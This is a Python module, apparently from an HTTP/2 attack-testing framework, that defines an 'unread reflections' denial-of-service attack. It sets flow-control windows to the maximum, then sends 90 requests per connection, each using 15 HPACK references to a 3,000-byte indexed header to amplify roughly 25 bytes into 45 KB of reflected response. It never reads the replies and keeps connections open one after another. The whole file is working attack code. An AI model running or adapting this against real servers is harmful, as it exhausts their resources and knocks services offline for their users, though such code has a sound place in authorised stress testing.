"""Unread reflections (formerly "internal data buffering", which it is not): requests whose answer is built from
their own decoded header fields (the reflection route, 15 references to a 3,000-byte entry of the dynamic table:
about 45 KB of answer for about 25 bytes of request), with the largest windows, never reading, connection after
connection kept open. What it costs a server is the decoding and reflecting of headers it was sent 15 times over,
then whatever of the answers it holds; CVE-2019-9517's buffering past flow control is data_buffering.py's."""
from hyperframe.frame import WindowUpdateFrame

from h2grid.attacks.base import Attack
from h2grid.attacks.data_dribble import PAD, reflect_request
from h2grid.attacks.hpackraw import literal, request

INITIAL_WINDOW_SIZE = 0x4
MAX_WINDOW = 2**31 - 1
REQUESTS = 89  # per connection, with the first: 90 open streams


def opening(conn) -> bytes:
    return (WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65_535).serialize()
            + conn.headers(conn.stream_id(), request(conn, "GET", "/reflect") + literal(b"x-pad", b"p" * PAD, indexing=True)))


def batch(conn) -> bytes:
    if conn.state.get("sent"):
        return b""  # this connection is done: keep it open, go on with another
    conn.state["sent"] = True
    return b"".join(conn.headers(conn.stream_id(), reflect_request(conn)) for _ in range(REQUESTS))


ATTACK = Attack(
    key="unread-reflections", title="Unread reflections", cve="none (an HPACK amplification into answers; "
                                                              "not CVE-2019-9517)",
    rfc="RFC 7541 section 7.3, RFC 9113 section 10.5",
    sends=f"windows at 2^31-1, then {REQUESTS + 1} GET /reflect of about 45 KB each per connection (15 references to "
          "one 3,000-byte indexed field), never reading, connection after connection kept open",
    opening=opening, batch=batch, settings={INITIAL_WINDOW_SIZE: MAX_WINDOW}, reads=False,
)
